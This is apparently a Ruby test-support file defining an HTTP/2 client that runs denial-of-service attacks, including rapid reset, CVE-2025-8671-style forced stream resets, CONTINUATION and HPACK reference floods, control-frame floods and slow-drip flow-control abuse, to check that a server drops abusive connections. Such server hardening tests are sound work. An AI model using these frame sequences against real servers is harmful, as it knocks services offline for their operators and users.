# frozen_string_literal: true

require "stringio"
require "support/h2_client"

# Clients of HTTP/2 that mean harm. Each attack gives frames for as long as it is asked for them; a server ends the
# connection long before.
class H2Attacks < H2Client
  # An attack: `open` is sent once, the block gives the words of the frames of its nth round.
  Attack = Struct.new(:name, :opening, :round, :pause)
  AT_ONCE = 200
  private_constant :AT_ONCE

  @all = {}
  @known = {}
  class << self
    # @return [Hash{String => Attack}]
    attr_reader :all
    # @return [Hash{String => String}] frames by their words: every connection begins with the same ones
    attr_reader :known
  end

  # @param opening [Array<String>] frames that are sent once, as words
  # @param pause [Float] seconds between rounds
  # @yieldparam stream [Integer] the next stream that was not used
  # @yieldreturn [Array<String>] the frames of a round, as words
  def self.attack(name, opening: [], pause: 0, &round) = all[name] = Attack.new(name, opening, round, pause)

  PATH = ":method=GET :scheme=http :authority=a :path=/large"

  attack("rapid reset") { |id| ["HEADERS es+eh #{id} get", "RST_STREAM - #{id} #8"] }
  # The server is made to reset its own streams, while the application works (CVE-2025-8671).
  attack("reset by a window of 0") { |id| ["HEADERS es+eh #{id} #{PATH}", "WINDOW_UPDATE - #{id} #0"] }
  attack("reset by a window too wide") { |id| ["HEADERS es+eh #{id} #{PATH}", "WINDOW_UPDATE - #{id} #2147483647"] }
  attack("reset by DATA behind the end") { |id| ["HEADERS es+eh #{id} #{PATH}", "DATA - #{id} 00"] }
  attack("reset by HEADERS behind the end") { |id| ["HEADERS es+eh #{id} #{PATH}", "HEADERS es+eh #{id} get"] }
  attack("reset by a short PRIORITY") { |id| ["HEADERS es+eh #{id} #{PATH}", "PRIORITY - #{id} 00"] }
  attack("reset by a dependency on itself") { |id| ["HEADERS es+eh #{id} #{PATH}", "PRIORITY - #{id} ##{id} 00"] }
  attack("CONTINUATION without end", opening: ["HEADERS - 1 get"]) { ["CONTINUATION - 1 a=b"] }
  attack("16,000 references") { |id| ["HEADERS es+eh #{id} get 90*16000"] }
  attack("crumbs") { |id| ["HEADERS es+eh #{id} get 4006636f6f6b69650161 be*8000"] }
  attack("SETTINGS") { ["SETTINGS - 0 000400010000"] }
  attack("PING") { ["PING - 0 0000000000000000"] }
  attack("PRIORITY") { |id| ["PRIORITY - #{id} #0 10"] }
  attack("WINDOW_UPDATE") { ["WINDOW_UPDATE - 0 #1"] }
  attack("empty DATA", opening: ["HEADERS eh 1 post"]) { ["DATA - 1"] }
  attack("refused streams") { |id| ["HEADERS eh #{id} post"] }
  # A hundred large responses, of which a byte leaves at a time.
  attack("drip", opening: ["SETTINGS - 0 000400000000"], pause: 0.02) do |id|
    id < 200 ? ["HEADERS es+eh #{id} #{PATH}"] : [1, 3, 5, 7].map { |stream| "WINDOW_UPDATE - #{stream} #1" }
  end
  attack("slow HEADERS", opening: ["HEADERS - 1 get"], pause: 0.5) { [] }

  # @param till [Float] on the monotonic clock
  # @param breath [Float] seconds between 200 rounds, for a server in the same process
  # @return [Integer] rounds before the server has ended the connection, or the time was over
  def carry_out(attack, till:, breath: 0)
    pause = [attack.pause, breath].max
    send_preface
    attack.opening.each { |line| send_frame(line) }
    count = 0
    until over?(till)
      lines = (attack.pause.zero? ? AT_ONCE : 1).times.flat_map { attack.round.call((2 * (count += 1)) - 1) }
      send_bytes(frames_of(lines))
      @socket.wait_readable(pause) if pause.positive? && !@gone
    end
    count
  end

  private

  # All that has come is thrown away. Has the server ended the connection?
  def over?(till)
    return true if @gone || Process.clock_gettime(Process::CLOCK_MONOTONIC) > till

    loop do
      case @socket.read_nonblock(65_536, exception: false)
      when nil then return true
      when :wait_readable then return false
      end
    end
  rescue Errno::ECONNRESET
    true
  end

  def frames_of(lines) = lines.map { |line| self.class.known[line] ||= bytes_for(line) }.join

  def bytes_for(line)
    catcher = self.class.superclass.new(out = StringIO.new(+"".b))
    catcher.send_frame(line)
    out.string
  end
end
